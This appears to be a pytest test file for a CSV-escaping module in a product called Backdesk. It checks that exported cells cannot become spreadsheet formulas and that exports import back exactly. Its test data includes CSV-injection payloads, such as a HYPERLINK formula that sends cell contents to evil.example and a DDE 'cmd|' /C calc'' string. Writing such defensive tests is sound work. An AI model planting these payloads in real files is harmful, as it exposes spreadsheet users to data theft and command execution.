"""CSV for spreadsheets (core.csvsafe): no cell an outsider typed becomes a
formula; numbers stay numbers; Backdesk's own exports import back exactly.

The people export/import and ``backdesk export … --format csv`` here; the
plugins' CSV files in tests/plugins/<name>/test_*_csv_safety.py.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core import csvsafe
from core.csvsafe import safe_cell, unescape_cell

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+1", "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "+49 30 1234567", "-", "=", "@", "+4930123"]
#: text that begins with an apostrophe for real
APOSTROPHES = ["'=1+1", "''=1+1", "'+49 30 1", "'-5", "'@x", "'\tx", "'tis", "''", "'", "'0815", "'a'=b"]
HARMLESS = ["", "Anna Becker", "a=b", "1-2", "12.50", "0815", " =1+1", "x@y", "Brandt, Söhne & Co", "'tis"]


# ----------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_be_a_formula_gets_one_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_text_that_really_starts_with_an_apostrophe():
    assert safe_cell("'=1+1") == "''=1+1"        # would read back as "=1+1" otherwise
    assert safe_cell("''-5") == "'''-5"
    assert safe_cell("'tis") == "'tis"          # no formula character after it: as it is
    assert safe_cell("'0815") == "'0815"
    assert safe_cell("'") == "'"


@pytest.mark.parametrize("value", HOSTILE + APOSTROPHES + HARMLESS + ["-12.50", "'-12.50"])
def test_unescape_undoes_safe_cell_exactly(value):
    assert unescape_cell(safe_cell(value)) == value
    assert unescape_cell(safe_cell(value, numeric=True)) == value


def test_unescape_leaves_text_backdesk_did_not_escape():
    assert unescape_cell("'tis") == "'tis"
    assert unescape_cell("'0815") == "'0815"
    assert unescape_cell("=1+1") == "=1+1"      # a hand-written file: nothing to undo
    assert unescape_cell("''=1") == "'=1"       # exactly one
    assert unescape_cell("") == ""


def test_numbers_stay_numbers():
    for number in (0, 7, -3, 12.5, -12.5, Decimal("-12.50"), Decimal("1535.41"), 10**20):
        assert safe_cell(number) is number
    assert safe_cell(None) is None
    # amounts stored as strings: plain decimals in a numeric column only
    assert safe_cell("-12.50", numeric=True) == "-12.50"
    assert safe_cell("-1535", numeric=True) == "-1535"
    assert safe_cell("-12.50") == "'-12.50"
    for text in ("-12.50x", "-1e5", "+12.50", "-12,50", "-", "=-1", "-1-1", "- 1"):
        assert safe_cell(text, numeric=True) == "'" + text, text
    # bools and other objects are text; not-finite numbers too
    assert safe_cell(True) == "True"
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(Decimal("-Infinity")) == "'-Infinity"


def test_writer_and_dictwriter():
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\n", numeric=(2,))
    w.writerow(["name", "phone", "amount"])
    w.writerows([["=cmd", "+49 30 1", "-12.50"], ["'=x", 5, Decimal("-3.10")], ["ok", None, "=1"]])
    assert out.getvalue().splitlines() == ["name,phone,amount", "'=cmd,'+49 30 1,-12.50", "''=x,5,-3.10",
                                           "ok,,'=1"]
    out = io.StringIO()
    dw = csvsafe.DictWriter(out, ["name", "amount"], lineterminator="\n", numeric=("amount",))
    dw.writeheader()
    dw.writerows([{"name": "@evil", "amount": "-1535.41"}, {"name": "-x", "amount": -2}])
    assert out.getvalue().splitlines() == ["name,amount", "'@evil,-1535.41", "'-x,-2"]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    # csv.writer with lineterminator="\n" leaves a lone CR unquoted: a
    # spreadsheet ends the row there and runs "=1+1" as a new row's formula
    plain = io.StringIO()
    csv.writer(plain, lineterminator="\n").writerow(["Anna\r=1+1", "x"])
    assert plain.getvalue() == "Anna\r=1+1,x\n"
    for make in (lambda fh: csvsafe.writer(fh, lineterminator="\n"),
                 lambda fh: csvsafe.DictWriter(fh, ["0", "1"], lineterminator="\n")):
        out = io.StringIO()
        w = make(out)
        row = ["Anna\r=1+1", "x"]
        w.writerow(row if not isinstance(w, csv.DictWriter) else dict(zip(["0", "1"], row)))
        assert out.getvalue() == '"Anna\r=1+1",x\n'
        assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [row]
    out = io.StringIO()
    csvsafe.writer(out).writerow(["a\r\nb", "c"])  # the default terminator is kept
    assert out.getvalue() == '"a\r\nb",c\r\n'


def test_dictreader_reads_back_what_the_writer_wrote():
    values = HOSTILE + APOSTROPHES + HARMLESS
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\n")
    w.writerow(["v"])
    for v in values:
        w.writerow([v])
    rows = list(csvsafe.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["v"] for r in rows] == values
    # a too-long row keeps its extra cells under restkey, as the csv module does
    rows = list(csvsafe.DictReader(io.StringIO("a\n'=x,'=y\n")))
    assert rows == [{"a": "=x", None: ["'=y"]}]


# ----------------------------------------------------------------------------- people export / import


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


PEOPLE = [  # name, title, email
    ("=HYPERLINK(\"http://evil.example\",\"Anna\")", "+SUM(1;2)", "=cmd@evil.example"),
    ("-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "-minus@test.example"),
    ("'=already quoted", "'tis the title", "+plus@test.example"),
    ("''=two", "'", None),
    ("Bernd Brav", "-", "bernd@test.example"),
]


@pytest.fixture
def hostile_office(office):
    people = office.services.people
    dept = people.add_department("=Evil Dept")
    ids = []
    for n, (name, title, email) in enumerate(PEOPLE):
        ids.append(people.add_person(name=name, department_id=dept, title=title, email=email,
                                     extension=str(170 + n), manager_id=office.ids["anna"]))
    office.hostile_ids = ids
    return office


def test_people_export_neutralises_hostile_cells(hostile_office):
    out = io.StringIO()
    hostile_office.services.people.export_csv(out)
    rows = {r[0]: r for r in _cells(out.getvalue())[1:]}
    for pid, (name, title, email) in zip(hostile_office.hostile_ids, PEOPLE):
        row = rows[str(pid)]
        assert row[1] == safe_cell(name) and row[3] == safe_cell(title)
        assert row[2] == "'=Evil Dept"
        assert row[5] == ("" if email is None else safe_cell(email))
    first = rows[str(hostile_office.hostile_ids[0])]
    assert first[1].startswith("'=HYPERLINK") and first[3] == "'+SUM(1;2)" and first[5] == "'=cmd@evil.example"
    assert rows[str(hostile_office.hostile_ids[2])][1] == "''=already quoted"
    assert rows[str(hostile_office.hostile_ids[2])][3] == "'tis the title"
    # every cell of the file: nothing a spreadsheet would run
    for row in _cells(out.getvalue()):
        for cell in row:
            assert cell[:1] not in csvsafe.FORMULA_STARTS, row
    # ids and extensions are plain
    assert rows[str(hostile_office.hostile_ids[0])][4] == "170"


def _person_fields(people, pid) -> dict:
    doc = people.get(pid)
    return {k: doc.get(k) for k in ("name", "title", "extension", "email", "status", "start_date", "end_date")}


def test_people_export_import_round_trip_is_exact(hostile_office, site):
    people = hostile_office.services.people
    out = io.StringIO()
    people.export_csv(out)
    text = out.getvalue()

    # back into the same directory: every row updates its person to the same values
    before = {p["id"]: p for p in hostile_office.table("core.people").all()}
    result = people.import_csv(io.StringIO(text))
    assert result["created"] == []
    after = {p["id"]: p for p in hostile_office.table("core.people").all()}
    assert after == before

    # into another, empty Backdesk: the values arrive byte for byte
    other_site = type(site)(site.root / "other")
    other = other_site.open("alice")
    try:
        for d in people.departments():
            other.services.people.add_department(d["name"])
        without_ids = "\n".join(line.split(",", 1)[1] for line in text.splitlines()) + "\n"
        result = other.services.people.import_csv(io.StringIO(without_ids))
        assert len(result["created"]) == len(before)
        theirs = {p["name"]: p for p in other.table("core.people").all()}
        for pid in before:
            mine = _person_fields(people, pid)
            twin = theirs[mine["name"]]
            assert {k: twin.get(k) for k in mine} == mine
        assert {d["name"] for d in other.services.people.departments()} >= {"=Evil Dept"}
        # the managers followed by email
        assert other.services.people.get(theirs[PEOPLE[0][0]]["manager_id"])["name"] == "Anna Becker"
    finally:
        other_site.close()


def test_people_import_of_a_hand_written_file_keeps_other_apostrophes(office):
    people = office.services.people
    data = "name,department,title\n'Tis Tanner,IT,'0815\n'=Quoted Name,IT,=still text\n"
    result = people.import_csv(io.StringIO(data))
    got = {people.get(pid)["name"]: people.get(pid)["title"] for pid in result["created"]}
    assert got == {"'Tis Tanner": "'0815", "=Quoted Name": "=still text"}


# ----------------------------------------------------------------------------- backdesk export --format csv


def test_storage_export_csv_neutralises_text_and_keeps_numbers(tmp_path):
    from core.storage import export_table, open_store

    store = open_store(tmp_path / "data")
    try:
        t = store.table("it", "things")
        t.insert({"title": "=cmd|' /C calc'!A0", "amount": "-12.50", "n": -3, "phone": "+49 30 1234567",
                  "note": "\t=1+1", "ref": "-5", "f": -1.5, "tags": ["=x"], "who": {"name": "@x"}})
        t.insert({"title": "'=already", "amount": "100.00", "n": 4, "phone": None, "note": "\rx", "ref": "text",
                  "f": 2.25, "tags": [], "who": None})
        t.insert({"title": "plain", "amount": None, "n": None, "phone": "", "note": "'tis", "ref": "-",
                  "f": None, "tags": None, "who": None, "flag": True})
        out = io.StringIO()
        assert export_table(store, "it.things", "csv", out) == 3
    finally:
        store.close()
    rows = _cells(out.getvalue())
    assert rows[0] == ["id", "title", "amount", "n", "phone", "note", "ref", "f", "tags", "who", "flag"]
    assert rows[1] == ["1", "'=cmd|' /C calc'!A0", "-12.50", "-3", "'+49 30 1234567", "'\t=1+1", "'-5", "-1.5",
                       '["=x"]', '{"name": "@x"}', ""]
    assert rows[2] == ["2", "''=already", "100.00", "4", "", "'\rx", "text", "2.25", "[]", "", ""]
    assert rows[3] == ["3", "plain", "", "", "", "'tis", "'-", "", "", "", "true"]
